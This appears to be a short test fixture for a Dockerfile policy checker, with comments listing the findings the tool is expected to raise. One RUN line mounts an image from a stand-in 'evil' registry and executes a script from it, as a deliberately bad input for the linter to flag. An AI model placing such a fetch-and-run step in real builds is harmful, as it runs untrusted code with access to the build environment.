# expect: image-not-pinned missing-healthcheck
FROM 127.0.0.1:5000/base/debian:12
# expect: unapproved-image image-not-pinned
RUN --mount=type=bind,from=ghcr.io/evil/tools:1,target=/t /t/run
USER 1000
